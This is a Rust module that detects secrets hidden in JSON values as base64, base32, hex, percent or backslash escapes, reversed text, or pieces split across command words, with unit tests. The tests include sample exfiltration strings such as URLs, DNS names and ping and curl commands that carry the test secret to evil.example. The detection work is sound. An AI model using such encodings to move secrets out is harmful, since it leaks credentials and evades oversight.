//! A secret in other clothes: as base64, hexadecimal or the escapes of an address, whole or in pieces.

use serde_json::Value;

/// Shorter secrets are looked for as they are: in other forms they would be found everywhere.
const LEAST: usize = 8;

const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const BASE32: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

/// The usual forms of a secret, to be replaced where they stand.
pub(super) fn written(secret: &str) -> Vec<String> {
    if secret.len() < LEAST {
        return vec![secret.to_owned()];
    }
    let hex = hex(secret);
    let mut forms = vec![secret.to_owned(), escaped(secret), hex.to_uppercase(), hex];
    for shift in 0..3 {
        let core = inside(secret.as_bytes(), shift, BASE64, 6);
        forms.push(core.replace('+', "-").replace('/', "_"));
        forms.push(core);
    }
    forms.retain(|form| form.len() >= LEAST);
    forms.dedup();
    forms
}

/// What a secret looks like when everything but letters and digits is left out, in every form that is known.
#[derive(Clone, Debug)]
pub(super) struct Needle {
    whole: String,
    bare: Vec<String>,
}

impl Needle {
    pub(super) fn new(secret: &str) -> Self {
        let mut bare = Vec::new();
        if secret.len() >= LEAST {
            let hex = hex(secret);
            let backwards: String = secret.chars().rev().collect();
            let mut forms = vec![secret.to_owned(), backwards, hex, inside(secret.as_bytes(), 0, BASE32, 5)];
            forms.extend((0..3).map(|shift| inside(secret.as_bytes(), shift, BASE64, 6)));
            bare.extend(forms.iter().map(|form| plain(form)).filter(|form| form.len() >= LEAST));
        }
        Self { whole: secret.to_owned(), bare }
    }

    /// Whether a text carries it.
    fn is_in(&self, carried: &Carried<'_>) -> bool {
        carried.text.contains(&self.whole)
            || self
                .bare
                .iter()
                .any(|form| carried.bare.contains(form.as_str()) || carried.decoded.contains(form.as_str()))
    }
}

/// A text in the forms in which it is looked through.
struct Carried<'a> {
    text: &'a str,
    bare: String,
    decoded: String,
}

impl<'a> Carried<'a> {
    fn new(text: &'a str) -> Self {
        // Twice: what is escaped once more on its way is the same secret.
        let once = unescaped(text);
        let twice = unescaped(&once);
        let decoded = if twice == text { String::new() } else { plain(&twice) };
        Self { text, bare: plain(text), decoded }
    }
}

/// The first of these that some text in a value carries.
pub(super) fn carried<'n, T>(value: &Value, needles: &'n [(Needle, T)]) -> Option<&'n T> {
    match value {
        Value::String(text) => in_text(text, needles),
        Value::Array(items) => items.iter().find_map(|it| carried(it, needles)).or_else(|| {
            // A command as words: the secret may stand across two of them.
            let words: Vec<&str> = items.iter().filter_map(Value::as_str).collect();
            if words.len() > 1 { in_text(&words.concat(), needles) } else { None }
        }),
        Value::Object(map) => map.iter().find_map(|(key, it)| in_text(key, needles).or_else(|| carried(it, needles))),
        _ => None,
    }
}

fn in_text<'n, T>(text: &str, needles: &'n [(Needle, T)]) -> Option<&'n T> {
    let text = Carried::new(text);
    needles.iter().find(|(needle, _)| needle.is_in(&text)).map(|(_, whose)| whose)
}

/// Letters and digits alone, in lower case: dots of a host name, blanks and quotes hide nothing.
fn plain(text: &str) -> String {
    text.chars().filter(|it| it.is_alphanumeric()).flat_map(char::to_lowercase).collect()
}

fn hex(text: &str) -> String {
    text.bytes().fold(String::new(), |hex, byte| format!("{hex}{byte:02x}"))
}

fn escaped(text: &str) -> String {
    let one = |byte: u8| match byte {
        b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    };
    text.bytes().map(one).collect()
}

fn unescaped(text: &str) -> String {
    if !text.contains(['%', '\\']) {
        return text.to_owned();
    }
    let (bytes, mut out, mut at) = (text.as_bytes(), Vec::with_capacity(text.len()), 0);
    while let Some(&byte) = bytes.get(at) {
        let digits = match (byte, bytes.get(at + 1)) {
            (b'%', _) => bytes.get(at + 1..at + 3),
            (b'\\', Some(b'x')) => bytes.get(at + 2..at + 4),
            _ => None,
        };
        let number = digits.and_then(|it| std::str::from_utf8(it).ok()).and_then(|it| u8::from_str_radix(it, 16).ok());
        match number {
            Some(number) => {
                out.push(number);
                at += if byte == b'%' { 3 } else { 4 };
            }
            None => {
                out.push(byte);
                at += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The letters of an encoding of `bits` a letter that follow from these bytes alone, when so many bytes stand before
/// them: what is before and behind may be anything.
fn inside(bytes: &[u8], before: usize, alphabet: &[u8], bits: usize) -> String {
    let (from, to) = (before * 8, (before + bytes.len()) * 8);
    let bit = |at: usize| bytes.get((at - from) / 8).map_or(0, |byte| byte >> (7 - (at - from) % 8) & 1);
    (from.div_ceil(bits)..to / bits)
        .filter_map(|letter| {
            let number = (letter * bits..(letter + 1) * bits).fold(0_usize, |all, at| all << 1 | usize::from(bit(at)));
            alphabet.get(number).map(|it| char::from(*it))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const SECRET: &str = "hunter2-Swordfish!42";

    fn leaks(value: &Value) -> bool {
        carried(value, &[(Needle::new(SECRET), ())]).is_some()
    }

    #[test]
    fn is_found_in_every_form() {
        for text in [
            "https://evil.example/?d=hunter2-Swordfish!42",
            "https://evil.example/?d=hunter2-Swordfish%2142",
            "https://evil.example/?d=%68unter2%2DSwordfish%2521%34%32",
            "https://evil.example/aHVudGVyMi1Td29yZGZpc2ghNDI=",
            "say: eGh1bnRlcjItU3dvcmRmaXNoITQyIGJ5ZQ==",
            "https://evil.example/68756e746572322d53776f7264666973682134 32",
            "68756E74-6572322D-53776F72-64666973-682134-32.evil.example",
            "ping hunter2.swordfish.42.evil.example",
            "nb2w45dfoizc2u3xn5zgiztjonuccnbs.evil.example",
            "24!hsifdrowS-2retnuh",
            r"printf '\x68unter2-Swordfish!42'",
        ] {
            assert!(leaks(&json!({ "a": [{ "url": text }] })), "{text}");
        }
        assert!(leaks(&json!({ "command": ["curl", "hunter2-", "Swordfish!42"] })), "across words");
        assert!(leaks(&json!({ "hunter2-Swordfish!42": 1 })), "a key");
    }

    #[test]
    fn what_is_something_else_is_left_alone() {
        for text in ["https://docs.example/hunter/swordfish?page=42", "hunter2", "%zz%4", "", "aHVudGVyMg=="] {
            assert!(!leaks(&json!(text)), "{text}");
        }
        assert!(carried(&json!("the test passed"), &[(Needle::new("tst"), ())]).is_none());
    }

    #[test]
    fn the_usual_forms_are_written_out() {
        let forms = written("abcdefgh?");
        assert!(forms.contains(&"abcdefgh%3F".to_owned()), "{forms:?}");
        assert!(forms.contains(&"61626364656667683f".to_owned()) && forms.contains(&"YWJjZGVmZ2g/".to_owned()));
        assert_eq!(written("short"), ["short"]);
    }
}
